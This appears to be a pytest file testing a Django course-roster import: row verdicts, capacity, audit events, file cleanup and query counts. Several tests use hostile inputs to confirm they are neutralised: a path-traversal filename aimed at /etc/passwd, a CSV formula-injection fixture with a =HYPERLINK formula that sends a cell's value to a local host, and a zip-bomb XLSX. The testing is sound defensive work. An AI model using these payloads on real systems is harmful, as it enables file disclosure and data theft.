import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.db import IntegrityError, connection, transaction
from django.test.utils import CaptureQueriesContext
from wagtail.models import ModelLogEntry

from cms.accounts.models import User
from learners.enrolment import roster_files, roster_work
from learners.enrolment.importing import (
    UnableToImport,
    confirm_roster,
    drop_roster,
    forget_old,
    leave_out,
    receive_roster,
    take_back,
)
from learners.enrolment.models import Enrolment, LearnerProfile, RosterImport, RosterRow
from learners.enrolment.roster_tables import UnreadableRoster
from learners.events.models import LearningEvent
from tests.factories.people import make_enrolment, make_user
from tests.factories.programme import make_cohort, make_small_programme
from tests.factories.works import teach
from tests.learners.enrolment.rosters import (
    AT,
    CORPUS,
    HEADER,
    LATER,
    administrator,
    many,
    problems,
    read,
    received,
    verdicts,
    work_out,
    xlsx,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _private_folder(settings, tmp_path):
    settings.DATA_FOLDER = tmp_path


@pytest.fixture
def cohort():
    return make_small_programme()


def verbs():
    return list(LearningEvent.objects.order_by("pk").values_list("verb", flat=True))


def kept_files():
    return list((settings.DATA_FOLDER / "private" / roster_files.FOLDER.name).glob("*"))


def imported(cohort, content, **options):
    roster = read(cohort, content, **options)
    confirm_roster(roster, by=administrator(), at=LATER)
    return work_out(roster)


def test_reading_changes_nobody(cohort):
    roster = read(cohort, HEADER + "a@x.org,Ana,Kenya,Ministry,Africa/Nairobi\n")

    assert (roster.state, roster.read_as) == ("ready", "UTF-8, cells divided by comma")
    assert verdicts(roster) == {2: "new"}
    assert list(User.objects.values_list("email", flat=True)) == ["administrator@demo.example"]
    assert (Enrolment.objects.count(), verbs()) == (0, [])


def test_verdicts(cohort):
    known = make_enrolment(cohort, make_user("known@x.org", "Known"))
    changed = make_enrolment(cohort, make_user("changed@x.org", "Changed"))
    make_user("account@x.org", "Account")
    roster = read(
        cohort,
        HEADER
        + "KNOWN@x.org,,,,\nchanged@x.org,Changed,Peru,,\naccount@x.org,,,,\nnew@x.org,New,,,\nbad@,Bad,,,\nNEW@X.org,Twice,,,\n",
    )

    assert verdicts(roster) == {2: "known", 3: "changed", 4: "new", 5: "new", 6: "bad", 7: "bad"}
    assert problems(roster) == {
        6: ["E-mail: “bad@” has no domain. Correct it in the file, or leave the row out."],
        7: ["E-mail: “new@x.org” stands in line 5 already. Keep one of the two lines."],
    }
    row = roster.rows.get(line=3)
    assert row.changes == [{"field": "country", "cell": "Country", "old": "", "new": "Peru"}]
    assert (row.enrolment, roster.rows.get(line=2).enrolment) == (changed, known)


def test_repetition_is_found_across_chunks(cohort, monkeypatch):
    monkeypatch.setattr(roster_work, "ROWS_READ", 2)

    roster = read(cohort, HEADER + "a@x.org,A,,,\nb@x.org,B,,,\nc@x.org,C,,,\nA@x.org,A,,,\n")

    assert problems(roster) == {5: ["E-mail: “a@x.org” stands in line 2 already. Keep one of the two lines."]}


def test_import_makes_accounts_places_and_profiles(cohort):
    roster = imported(cohort, HEADER + "Ana@x.org,Ana Lee,KE,Ministry,Africa/Nairobi\nbo@x.org,Bo,,,\n")

    ana, bo = User.objects.get(email="ana@x.org"), User.objects.get(email="bo@x.org")
    assert (ana.name, ana.has_usable_password(), ana.is_staff) == ("Ana Lee", False, False)
    profile = LearnerProfile.objects.get(user=ana)
    assert (profile.printed_name, profile.country, profile.organisation, profile.time_zone) == (
        "Ana Lee",
        "Kenya",
        "Ministry",
        "Africa/Nairobi",
    )
    assert bo.profile.time_zone == cohort.time_zone
    assert [
        (enrolment.user, enrolment.state, enrolment.enrolled_by, enrolment.enrolled_at)
        for enrolment in Enrolment.objects.order_by("pk")
    ] == [(ana, "active", administrator(), LATER), (bo, "active", administrator(), LATER)]
    assert verbs() == ["roster.confirmed", "enrolment.made", "enrolment.made", "roster.imported"]
    assert (roster.state, roster.finished_at, roster.rows.filter(state="done").count()) == ("done", LATER, 2)
    assert list(ModelLogEntry.objects.order_by("pk").values_list("action", flat=True)) == [
        "campus.roster_confirmed",
        "campus.roster_imported",
    ]


def test_import_changes_only_what_the_preview_showed(cohort):
    enrolment = make_enrolment(cohort, make_user("a@x.org", "Ana"))

    imported(cohort, HEADER + "A@X.ORG,Ana Lee,Peru,,\n")

    user = User.objects.get(pk=enrolment.user_id)
    assert (user.email, user.name, user.is_staff) == ("a@x.org", "Ana", False)
    assert (user.profile.printed_name, user.profile.country, user.profile.time_zone) == (
        "Ana Lee",
        "Peru",
        "Africa/Nairobi",
    )
    event = LearningEvent.objects.get(verb="profile.changed")
    assert (event.enrolment, event.data["fields"]) == (enrolment, ["printed_name", "country"])


def test_bad_and_left_out_rows_are_not_imported(cohort):
    roster = read(cohort, HEADER + "a@x.org,Ana,,,\nb@x.org,Bo,,,\nc@,Cy,,,\n")

    assert leave_out(roster, [3, 4, 99]) == 1
    confirm_roster(roster, by=administrator(), at=LATER)
    work_out(roster)

    assert list(Enrolment.objects.values_list("user__email", flat=True)) == ["a@x.org"]
    assert not User.objects.filter(email="b@x.org").exists()


def test_rows_are_taken_in_again_as_what_they_were(cohort):
    make_enrolment(cohort, make_user("a@x.org", "Ana"))
    roster = read(cohort, HEADER + "a@x.org,Ana,Peru,,\nb@x.org,Bo,,,\n")
    leave_out(roster, [2, 3])

    assert take_back(roster, [2, 3]) == 2
    assert verdicts(roster) == {2: "changed", 3: "new"}


def test_nothing_to_import_is_refused(cohort):
    roster = read(cohort, HEADER + "c@,Cy,,,\n")

    with pytest.raises(UnableToImport, match="No row of this file can be imported"):
        confirm_roster(roster, by=administrator(), at=LATER)


def test_capacity_is_never_exceeded(cohort):
    cohort.capacity = 2
    cohort.save()

    roster = imported(cohort, many(4))

    assert Enrolment.objects.filter(cohort=cohort).count() == 2
    refused = roster.rows.filter(state="refused").order_by("line")
    assert [(row.line, row.problems[0]["says"]) for row in refused] == [
        (4, "Cohort 2026-a has no place left: all 2 places are taken or offered."),
        (5, "Cohort 2026-a has no place left: all 2 places are taken or offered."),
    ]
    assert User.objects.filter(email__startswith="person").count() == 2


def test_confirming_twice_is_one_import(cohort):
    roster = imported(cohort, many(2))

    again = confirm_roster(roster, by=administrator(), at=LATER)
    work_out(again)

    assert (again.state, verbs().count("roster.confirmed"), verbs().count("enrolment.made")) == ("done", 1, 2)


def test_same_file_again_is_known(cohort):
    imported(cohort, many(3))

    assert set(verdicts(read(cohort, many(3))).values()) == {"known"}


def test_person_who_withdrew_comes_back_to_the_same_record(cohort):
    enrolment = make_enrolment(cohort, make_user("a@x.org", "Ana"), state="withdrawn")

    imported(cohort, HEADER + "a@x.org,Ana,,,\n")

    enrolment.refresh_from_db()
    assert (enrolment.state, Enrolment.objects.count()) == ("active", 1)


@pytest.mark.parametrize(
    "state, written, verdict",
    [
        ("active", "Studying", "known"),
        ("interrupted", "interrupted", "known"),
        ("withdrawn", "Withdrawn", "known"),
        ("withdrawn", "Studying", "new"),
        ("active", "Withdrawn", "bad"),
        ("completed", "Studying", "bad"),
        (None, "Studying", "new"),
        (None, "Withdrawn", "bad"),
        (None, "", "new"),
    ],
)
def test_state_is_never_changed_by_a_file(cohort, state, written, verdict):
    user = make_user("a@x.org", "Ana")
    if state:
        make_enrolment(cohort, user, state=state)

    roster = read(cohort, f"E-mail,Name,State\na@x.org,Ana,{written}\n")

    assert verdicts(roster) == {2: verdict}


def test_closed_account_own_account_and_missing_name(cohort):
    make_user("closed@x.org", "Closed", is_active=False)

    roster = read(cohort, "E-mail\nclosed@x.org\nadministrator@demo.example\nnew@x.org\n")

    assert problems(roster) == {
        2: ["E-mail: The account “closed@x.org” is closed. Open the account first, or leave the row out."],
        3: ["E-mail: Nobody enrols themselves. Ask a colleague, and leave the row out."],
        4: ["Name: The name is missing. Enter the name as it will be printed."],
    }


def test_verified_name_stays(cohort):
    make_enrolment(cohort, make_user("a@x.org", "Ana"), verified_by=administrator())

    roster = read(cohort, HEADER + "a@x.org,Anna,,,\n")

    assert problems(roster) == {
        2: ["Name: The identity was verified as “Ana”. Write the verified name, or leave the cell empty."]
    }


def test_what_the_profile_says_already_is_no_mistake(cohort):
    enrolment = make_enrolment(cohort, make_user("a@x.org", "Ana"))
    LearnerProfile.objects.filter(user=enrolment.user).update(country="Utopia", time_zone="Mars/Base")

    roster = read(cohort, HEADER + "a@x.org,Ana,Utopia,,Mars/Base\n")

    assert verdicts(roster) == {2: "known"}


@pytest.mark.parametrize(
    "meanwhile, sentence",
    [
        (
            lambda user: LearnerProfile.objects.filter(user=user).update(country="Chile"),
            "Country: it was changed after the file was read. Upload the row again.",
        ),
        (
            lambda user: User.objects.filter(pk=user.pk).update(is_active=False),
            "The account was closed after the file was read.",
        ),
        (
            lambda user: Enrolment.objects.filter(user=user).update(
                identity_verified_at=AT, identity_verified_by=administrator()
            ),
            "The identity was verified after the file was read, so the name stays.",
        ),
    ],
)
def test_what_changed_after_reading_is_refused(cohort, meanwhile, sentence):
    user = make_enrolment(cohort, make_user("a@x.org", "Ana")).user
    roster = read(cohort, HEADER + "a@x.org,Ana Lee,Peru,,\n")
    meanwhile(user)

    confirm_roster(roster, by=administrator(), at=LATER)
    roster = work_out(roster)

    row = roster.rows.get()
    assert (row.state, row.problems[0]["says"]) == ("refused", sentence)


def test_account_that_was_made_after_reading_is_only_enrolled(cohort):
    roster = read(cohort, HEADER + "a@x.org,Ana Lee,Peru,,\n")
    user = make_user("a@x.org", "Ana Maria")
    LearnerProfile.objects.create(user=user, printed_name="Ana Maria", country="Chile")

    confirm_roster(roster, by=administrator(), at=LATER)
    work_out(roster)

    profile = LearnerProfile.objects.get(user=user)
    assert (profile.printed_name, profile.country) == ("Ana Maria", "Chile")
    assert Enrolment.objects.get().user == user


def test_person_who_confirms_is_not_enrolled_by_it(cohort):
    colleague = make_user("colleague@x.org", "Colleague")
    roster = read(cohort, HEADER + "colleague@x.org,Colleague,,,\n")

    confirm_roster(roster, by=colleague, at=LATER)
    roster = work_out(roster)

    assert roster.rows.get().problems[0]["says"] == "Nobody enrols themselves. Ask a colleague."


def test_file_is_kept_under_our_name_and_goes_with_the_end(cohort, django_capture_on_commit_callbacks):
    roster = read(cohort, many(1), name="../../etc/pass\nwd.csv")

    assert roster.file_name == "pass␊wd.csv"
    assert [path.name for path in kept_files()] == [roster.stored_name]
    with django_capture_on_commit_callbacks(execute=True):
        confirm_roster(roster, by=administrator(), at=LATER)
        work_out(roster)
    assert kept_files() == []


def test_dropped_file_leaves_nothing(cohort, django_capture_on_commit_callbacks):
    roster = read(cohort, many(2))

    with django_capture_on_commit_callbacks(execute=True):
        drop_roster(roster, by=administrator(), at=LATER)
        drop_roster(roster, by=administrator(), at=LATER)

    roster.refresh_from_db()
    assert (roster.state, roster.rows.count(), kept_files()) == ("dropped", 0, [])
    assert verbs() == ["roster.dropped"]
    with pytest.raises(UnableToImport, match="This file is: dropped"):
        confirm_roster(roster, by=administrator(), at=LATER)


def test_import_that_has_begun_is_not_dropped(cohort):
    roster = read(cohort, many(1))
    confirm_roster(roster, by=administrator(), at=LATER)

    with pytest.raises(UnableToImport, match="This file is: being imported"):
        drop_roster(roster, by=administrator(), at=LATER)


def test_rows_are_chosen_before_the_decision_only(cohort):
    roster = imported(cohort, many(1))

    for deed in (leave_out, take_back):
        with pytest.raises(UnableToImport, match="This file is: imported"):
            deed(roster, [2])


def test_refused_file_is_not_kept(cohort):
    with pytest.raises(UnreadableRoster):
        received(cohort, "no list")

    assert (RosterImport.objects.count(), kept_files()) == (0, [])


def test_file_of_more_than_ten_megabytes_is_refused_unread(cohort):
    class Large(ContentFile):
        def chunks(self, chunk_size=None):
            raise AssertionError("It was read.")

    upload = Large(b"", name="large.csv")
    upload.size = 14 * 1024 * 1024

    with pytest.raises(UnreadableRoster) as refusal:
        receive_roster(cohort, upload, by=administrator(), at=AT)

    assert str(refusal.value) == "The file is 14 MB. The limit is 10 MB. Divide it into smaller files."
    assert kept_files() == []


def test_large_file_without_a_list_fails_in_the_background(cohort, django_capture_on_commit_callbacks):
    roster = received(cohort, "x" * 300_000)

    with django_capture_on_commit_callbacks(execute=True):
        roster = work_out(roster)

    assert (roster.state, roster.rows.count(), kept_files()) == ("failed", 0, [])
    assert roster.error.startswith("The first line is too long.")


def test_database_refuses_an_import_without_a_decision(cohort):
    roster = received(cohort, many(1))

    with pytest.raises(IntegrityError), transaction.atomic():
        RosterImport.objects.filter(pk=roster.pk).update(state="importing")


def test_old_rows_are_forgotten_and_old_files_dropped(cohort):
    done, waiting = imported(cohort, many(1)), read(cohort, many(1, start=5))
    much_later = LATER.replace(month=4)

    assert forget_old(at=LATER) == 0
    assert forget_old(at=much_later) == 1

    waiting.refresh_from_db()
    assert (done.rows.count(), waiting.rows.count(), waiting.state) == (0, 0, "dropped")
    assert RosterImport.objects.count() == 2


# What the published files do.


def published(name: str) -> bytes:
    if not (CORPUS / name).is_file():
        pytest.skip("The published corpus is not on this machine.")
    return (CORPUS / name).read_bytes()


def test_published_messy_list(cohort):
    roster = read(cohort, published("roster-messy.csv"))

    assert verdicts(roster) == {2: "new", 3: "bad", 4: "bad", 5: "bad", 6: "bad"}
    assert problems(roster) == {
        3: ["Line: A quotation mark is not closed. Correct the line in the file, or leave the row out."],
        4: ["Name: The name has a hidden character (U+0000). Enter the name again without it."],
        5: ["E-mail: “a@example.org” stands in line 2 already. Keep one of the two lines."],
        6: ["Name: The cell has 70,000 characters. The limit is 1,000. Shorten the cell."],
    }
    assert Enrolment.objects.count() == 0


def test_published_formulas_stay_text(cohort):
    roster = imported(cohort, published("roster-formula-open.csv"))

    assert roster.rows.filter(state="done").count() == 5
    assert set(LearnerProfile.objects.values_list("printed_name", flat=True)) == {
        "=1+1 =1+1",
        "-1+1 -1+1",
        "@SUM(1+1) @SUM(1+1)",
        '=HYPERLINK("http://127.0.0.1:18099/x?v="&A1,"open") =HYPERLINK("http://127.0.0.1:18099/x?v="&A1,"open")',
    }


def test_published_bomb_is_refused_at_once(cohort):
    with pytest.raises(UnreadableRoster, match="The file unpacks to far more than a list of people"):
        received(cohort, published("roster-bomb.xlsx"))

    assert kept_files() == []


# Sizes.


def queries(deed) -> int:
    """SQLite takes a few rows with each INSERT, so one table's INSERTs count as one."""
    with CaptureQueriesContext(connection) as caught:
        deed()
    statements = [query["sql"] for query in caught]
    bulk = [sql for sql in statements if sql.startswith('INSERT INTO "learners_rosterrow"')]
    return len(statements) - max(len(bulk) - 1, 0)


def test_chunk_costs_the_same_for_few_and_for_many_rows(cohort):
    few, much = received(cohort, many(3)), received(cohort, many(400))

    costs = [
        queries(lambda roster=roster: roster_work.work_on(roster.pk, at=LATER)) for roster in (few, much)
    ]

    assert costs[0] == costs[1]
    assert costs[1] <= 17


def test_five_thousand_rows_take_the_same_queries_in_each_chunk(cohort):
    roster = received(cohort, many(5_000))

    costs = [queries(lambda: roster_work.work_on(roster.pk, at=LATER, steps=1)) for _step in range(10)]

    assert max(costs) == min(costs)
    work_out(roster)
    roster.refresh_from_db()
    assert (roster.state, roster.rows.count(), roster.last_line) == ("ready", 5_000, 5_001)


def test_row_of_an_import_costs_a_constant(cohort):
    cohort.capacity = 500
    cohort.save()
    rosters = [read(cohort, many(10)), read(cohort, many(40, start=100))]
    for roster in rosters:
        confirm_roster(roster, by=administrator(), at=LATER)

    few, much = (
        queries(lambda roster=roster: roster_work.work_on(roster.pk, at=LATER)) for roster in rosters
    )

    assert (much - few) % 30 == 0
    assert (much - few) // 30 <= 21  # one of them is the lock of the audit log on PostgreSQL


def test_xlsx_is_imported_like_csv(cohort):
    imported(cohort, xlsx(["E-mail", "Name"], ["a@x.org", "=1+1"]), name="people.xlsx")

    assert LearnerProfile.objects.get(user__email="a@x.org").printed_name == "=1+1"


def test_row_says_its_line(cohort):
    roster = read(cohort, many(1))

    assert (str(roster.rows.get()), str(roster)) == (f"line 2 of {roster.pk}", f"people.csv ({roster.pk})")
    assert RosterRow.objects.count() == 1


def test_who_studies_in_another_cohort_is_moved_and_not_imported(cohort):
    """A second place would hide the first one from its learner. Who has finished or left comes as somebody new."""
    imported(cohort, many(3))
    for state, number in (("withdrawn", 1), ("completed", 2)):
        place = Enrolment.objects.order_by("pk")[number]
        Enrolment.objects.filter(pk=place.pk).update(state=state)

    roster = read(make_cohort(cohort.edition, "2026-b"), many(3))

    assert verdicts(roster) == {2: "bad", 3: "new", 4: "new"}
    assert roster.rows.get(line=2).problems == [
        {
            "cell": "E-mail",
            "says": "This person studies in cohort 2026-a.",
            "fix": "Leave the row out. Move the person on the learner's record.",
        }
    ]


def test_who_teaches_in_the_cohort_is_not_imported(cohort):
    teach(cohort, make_user("tutor@demo.example", "Demo tutor"), "tutor")

    roster = read(cohort, HEADER + "tutor@demo.example,Demo tutor,,,\n")

    assert [row.problems[0]["says"] for row in roster.rows.all()] == ["This person teaches in this cohort."]
